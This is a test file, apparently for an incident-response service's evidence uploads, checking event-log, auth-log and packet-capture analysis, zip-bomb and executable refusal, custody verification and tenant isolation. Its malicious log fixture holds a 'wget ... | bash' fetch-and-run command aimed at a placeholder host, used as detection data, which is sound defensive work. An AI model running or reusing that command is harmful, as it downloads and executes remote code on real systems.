import { createHash } from 'node:crypto';
import { readdir } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { gzipSync } from 'node:zlib';
import { beforeAll, describe, expect, it } from 'vitest';
import { evidenceOf } from '../../../engine/breach/evidence/export.js';
import { verifyEvidence } from '../../../engine/breach/evidence/read.js';
import { worked } from '../../../engine/breach/evidence/work.js';
import type { Fields } from '../../../engine/event.js';
import { loadUploadKinds } from '../../../engine/respond/uploads/kinds/index.js';
import { lookInto } from '../../../engine/respond/uploads/work.js';
import { addTenant, NOW } from '../../commands/world.js';
import { writeEventLog } from '../../ingest/evtx/writer.js';
import { makeZip } from '../../ingest/makezip.js';
import { uploadWorld } from './world.js';

const cleared = (id: number): Fields => ({
  Event: {
    System: {
      Provider: {
        '#attributes': { Name: 'Microsoft-Windows-Eventlog', Guid: '{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}' },
      },
      ...{ EventID: 1102, Level: 4, Keywords: '0x4020000000000000', EventRecordID: id, Channel: 'Security' },
      TimeCreated: { '#attributes': { SystemTime: '2026-11-23T03:00:00.1234567Z' } },
      Execution: { '#attributes': { ProcessID: 4, ThreadID: 8 } },
      ...{ Computer: 'dc-01.acme.test', Security: { '#attributes': { UserID: 'S-1-5-18' } } },
    },
    EventData: { SubjectUserName: 'mallory', SubjectDomainName: 'ACME' },
  },
});
const BAD =
  '2026-11-19T08:36:17.843000+00:00 web-02 sudo:      www : TTY=unknown ; PWD=/home/www ; USER=root ; COMMAND=/bin/sh -c wget -qO- https://cdn.lure.example/x|bash';
const GOOD =
  '2026-11-19T08:36:10.000000+00:00 web-02 sudo:   okafor : TTY=pts/0 ; PWD=/home/okafor ; USER=root ; COMMAND=/usr/bin/ls';

/** One question to a name server over UDP, in the classic format (little endian, Ethernet). */
function capture(name: string, at: number): Buffer {
  const labels = name.split('.').map((label) => Buffer.concat([Buffer.of(label.length), Buffer.from(label)]));
  const dns = Buffer.concat([
    Buffer.from('123401000001000000000000', 'hex'),
    ...labels,
    Buffer.from('0000010001', 'hex'),
  ]);
  const udp = Buffer.alloc(8);
  for (const [i, n] of [5353, 53, 8 + dns.length, 0].entries()) udp.writeUInt16BE(n, 2 * i);
  const ip = Buffer.from('450000000000000040110000c0000201c0000235', 'hex');
  ip.writeUInt16BE(28 + dns.length, 2);
  const frame = Buffer.concat([Buffer.from('0000000000020000000000010800', 'hex'), ip, udp, dns]);
  const head = Buffer.alloc(24);
  head.writeUInt32LE(0xa1b2c3d4, 0);
  for (const [i, n] of [2, 4].entries()) head.writeUInt16LE(n, 4 + 2 * i);
  for (const [i, n] of [65_535, 1].entries()) head.writeUInt32LE(n, 16 + 4 * i);
  const record = Buffer.alloc(16);
  for (const [i, n] of [at / 1000, 0, frame.length, frame.length].entries()) record.writeUInt32LE(n, 4 * i);
  return Buffer.concat([head, record, frame]);
}

describe('a file given to a case', () => {
  let w: Awaited<ReturnType<typeof uploadWorld>>;
  beforeAll(async () => {
    w = await uploadWorld();
  });

  it('is kept with its hash; an event log goes through the rules, and what it says stands on the timeline at its own time', async () => {
    const bytes = writeEventLog([cleared(1), cleared(2)]);
    const { evidence, examined, text, log, mine, observables } = await w.give('Security.evtx', bytes);
    expect(evidence.sha256).toBe(createHash('sha256').update(bytes).digest('hex'));
    expect(examined).toMatchObject({ kind: 'eventlog', isBad: true, refused: null, at: NOW });
    expect(text).toMatch(/^Windows event log: 2 events from 2026-11-23 03:00 UTC/);
    expect(text).toMatch(/(?:medium|high|critical): .*(?:cleared).* 2 ×/i);
    expect(mine.map(({ kind, actor }) => [kind, actor])).toEqual([
      ['evidence', 'ana'],
      ['examined', 'mdr'],
    ]);
    const pinned = log.filter(({ kind }) => kind === 'pinned');
    expect(pinned[0]).toMatchObject({ when: Date.parse('2026-11-23T03:00:00.123Z'), actor: 'mdr' });
    expect(observables.map(({ value }) => value)).toContain('dc-01.acme.test');
    expect((await w.queues.queue('changes').getJobs()).map(({ data }) => data)).toContainEqual({
      ...{ tenant: 'acme', kind: 'case', number: w.number },
    });
    // Delivered again, nothing is said twice.
    await w.acme.evidence.update({ _id: evidence._id }, { $unset: { examined: 1 } });
    await lookInto(w.parts, 'acme', evidence._id);
    expect((await w.acme.cases.findOne({ number: w.number }))!.log).toHaveLength(log.length);
  });

  it('becomes evidence of the case, once, where the service has a key for it', async () => {
    const { evidence } = await w.give('custody.log', `${GOOD}\n`);
    const desk = { store: w.acme, secret: 'a key of at least thirty-two characters', clock: () => NOW };
    const work = { ...w.parts, secret: desk.secret, folder: tmpdir() };
    for (let round = 0; round < 2; round++) {
      await w.acme.evidence.update({ _id: evidence._id }, { $unset: { examined: 1 } });
      await lookInto({ ...w.parts, custody: true }, 'acme', evidence._id);
    }
    const jobs = await w.queues.queue('evidence').getJobs();
    expect(jobs.map(({ data }) => data.job.items)).toEqual([[evidence._id]]);
    for (let round = 0; round < 2; round++) await worked(work, jobs[0]!.data, true);
    const items = await evidenceOf(w.acme, { case: w.number });
    expect(items.items.map(({ name, sha256, by }) => [name, sha256, by.id])).toEqual([
      ['custody.log', evidence.sha256, 'ana'],
    ]);
    expect(
      (await verifyEvidence(desk, items.items[0]!, { by: items.items[0]!.by, why: 'test', where: '', request: 'v' }))
        .isWhole,
    ).toBe(true);
  });

  it('a log goes through formats and rules, packed or not; what is fine is said to be', async () => {
    for (const [name, data] of [
      ['auth.log', `${GOOD}\n${BAD}\n`],
      ['auth.log.gz', gzipSync(`${GOOD}\n${BAD}\n`)],
      ['auth.log.zip', makeZip([{ name: 'auth.log', content: `${GOOD}\n${BAD}\n` }])],
    ] as const) {
      const { examined, text } = await w.give(name, data as Buffer);
      expect([name, examined.isBad, examined.kind]).toEqual([name, true, 'logs']);
      expect(text).toContain('Log: 2 events');
      expect(text).toContain('web-02');
    }
    const { examined, text } = await w.give('fine.log', `${GOOD}\n`);
    expect(examined.isBad).toBe(false);
    expect(text).toContain('No rule and no indicator fired.');
  });

  it('a capture of packets is read as flows and names looked up', async () => {
    const { examined, text } = await w.give(
      'night.pcap',
      capture('login.lure.example', Date.parse('2026-11-23T03:00:00Z')),
    );
    expect([examined.kind, examined.refused]).toEqual(['capture', null]);
    expect(text).toMatch(/^Capture of packets: \d+ events? from 2026-11-23 03:00 UTC/);
  });

  it('what cannot be read is refused with a code, and is kept all the same', async () => {
    const bomb = gzipSync(Buffer.alloc(80 * 1024 * 1024, 'a'));
    for (const [name, data, code] of [
      ['photo.bin', Buffer.from([0, 1, 2, 3, 0xff, 0xfe]), 'MDR_UPLOAD_BAD'],
      ['evil.exe', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(100)]), 'MDR_UPLOAD_BAD'],
      ['archive.zip', makeZip([{ name: 'x.exe', content: 'MZ' }]), 'MDR_UPLOAD_BAD'],
      ['poem.txt', 'roses are red\nviolets are blue\n', 'MDR_FORMAT_UNKNOWN'],
      ['locked.log.zip', makeZip([{ name: 'a.log', content: GOOD, encrypted: true }]), 'MDR_FILE_UNREADABLE'],
      ['nested.log.zip', makeZip([{ name: 'a.zip', content: 'PK' }]), 'MDR_FILE_UNREADABLE'],
      ['bomb.log.gz', bomb, 'MDR_FILE_UNREADABLE'],
      ['broken.log.gz', gzipSync(GOOD).subarray(0, 30), 'MDR_FILE_UNREADABLE'],
      ['note.eml', 'hello', 'MDR_UPLOAD_BAD'],
    ] as const) {
      const { examined, text, evidence, mine } = await w.give(name, data as Buffer);
      expect([name, examined.refused]).toEqual([name, code]);
      expect(evidence.size).toBe(Buffer.from(data).length);
      expect(text, name).not.toContain(tmpdir());
      expect(mine.at(-1)?.text).toContain(`not looked into (${code})`);
    }
    // Nothing of theirs is left on the disk.
    expect((await readdir(tmpdir())).filter((name) => name.startsWith('mdr-upload-'))).toEqual([]);
  });

  it('a case of another tenant finds neither file nor finding', async () => {
    const { evidence } = await w.give('mine.log', `${GOOD}\n\n`);
    await addTenant(w.store, 'zeta', 'Zeta');
    const zeta = await w.store.forTenant('zeta');
    expect(await zeta.evidence.findOne({ _id: evidence._id })).toBeNull();
    expect(await zeta.blobs.read(evidence._id)).toBeNull();
    await lookInto(w.parts, 'zeta', evidence._id);
  });

  it('each kind has a name of its own and is asked in order', async () => {
    const kinds = await loadUploadKinds();
    expect(new Set(kinds.map(({ name }) => name)).size).toBe(kinds.length);
    expect(kinds.map(({ rank }) => rank)).toEqual(kinds.map(({ rank }) => rank).toSorted((a, b) => a - b));
    expect(kinds.map(({ name }) => name)).toEqual(expect.arrayContaining(['eventlog', 'mail', 'logs']));
  });
});
